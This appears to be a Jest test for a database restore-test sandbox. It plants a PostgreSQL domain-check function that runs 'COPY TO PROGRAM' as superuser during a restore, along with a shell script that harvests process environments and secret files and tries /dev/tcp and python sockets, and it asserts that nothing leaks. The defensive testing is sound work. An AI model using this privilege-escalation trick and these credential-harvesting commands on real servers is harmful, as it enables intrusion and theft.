// H2 of the attack: the restore test runs code of a database's owner as superuser of the scratch server. It must learn no secret there, and find no way out.
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server as Listener } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { runRestoreTest, type RestoreTestRun } from '../hazards/restore-test-run.ts';
import { Installations, Server } from '../hazards/server.ts';

jest.setTimeout(300_000);

/** The value of the superuser's Secret. The attacker does not know it: the pattern spares the test a hit on itself. */
const password = 'Hauptschluessel-4711';
const pattern = '[H]auptschluessel-4711';

/** What the attacker's program finds: every environment, every argument, and every file that it may read; then the ways out. */
function program(loot: string, place: string, port: number): string {
  return `exec >>'${loot}' 2>/dev/null
echo "ran as $(id -u)"
for process in /proc/[0-9]*; do tr '\\0' '\\n' <"$process/environ" 2>/dev/null; tr '\\0' ' ' <"$process/cmdline" 2>/dev/null; done | grep -a '${pattern}'
grep -arsl --exclude=loot '${pattern}' '${place}' /run/secrets /etc/passwd
(exec 3<>/dev/tcp/127.0.0.1/${String(port)} && echo "connected by IPv4")
(exec 3<>/dev/tcp/::1/${String(port)} && echo "connected by IPv6")
python3 -c "import socket; socket.create_connection(('127.0.0.1', ${String(port)})); print('connected by python')"
python3 -c "import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW); print('opened netlink')"
perl -e '$parameters = "\\0" x 120; syscall(425, 8, $parameters) >= 0 and print "opened io_uring\\n"'
echo done
`;
}

let installations: Installations;
let server: Server;
let listener: Listener;
let connections = 0;
let found: RestoreTestRun;
let loot = '';

beforeAll(async () => {
  installations = new Installations();
  listener = createServer(() => (connections += 1));
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  server = new Server(installations, 'live');
  server.initialise();
  server.start();
  server.createLogin();
  const file = join(server.place, 'loot');
  const attack = join(installations.directory, 'attack.sh');
  writeFileSync(attack, program(file, server.place, (listener.address() as AddressInfo).port));
  chmodSync(attack, 0o755);
  server.sql('postgres', 'CREATE ROLE tenant LOGIN; CREATE DATABASE theirs OWNER tenant');
  server.sql(
    'theirs',
    `SET SESSION AUTHORIZATION tenant;
CREATE FUNCTION public.judge(text) RETURNS boolean LANGUAGE plpgsql AS $body$
BEGIN
  EXECUTE $sql$COPY (SELECT 1) TO PROGRAM 'bash ${attack}'$sql$;
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END $body$;
CREATE DOMAIN public.trap AS text CHECK (public.judge(VALUE));
CREATE FUNCTION public.step(public.trap, int) RETURNS public.trap LANGUAGE sql AS 'SELECT $1';
CREATE AGGREGATE public.bait(int) (SFUNC = public.step, STYPE = public.trap, INITCOND = 'x');`,
  );
  if (existsSync(file)) throw new Error('the attack ran in the live server');
  found = await runRestoreTest(server, { PASSWORD: `${password}\n` });
  loot = existsSync(file) ? readFileSync(file, 'utf8') : '';
});

afterAll(() => {
  listener.close();
  server.stop();
  installations.remove();
});

describe('code that an unprivileged role leaves for the restore', () => {
  test('runs there: no test of what it can do otherwise', () => {
    expect(loot).toMatch(/^ran as \d+\n[^]*done\n$/);
  });

  test("finds the superuser's password in no process and no file", () => {
    expect(loot).not.toContain(password);
    expect(loot.split('\n').filter((line) => line.startsWith('/'))).toEqual([]);
  });

  test('has no way to the live server, nor to any other', () => {
    expect(loot.split('\n').filter((line) => /^(connected|opened)/.test(line))).toEqual([]);
    expect(connections).toBe(0);
  });

  test('changes nothing of the answer about the schemas, which says that the network was closed', () => {
    expect(found.facts.network).toBeUndefined();
    expect(found.answer.status).toBe('passed');
    expect(found.facts.places.every(({ seconds }) => seconds !== undefined)).toBe(true);
  });
});
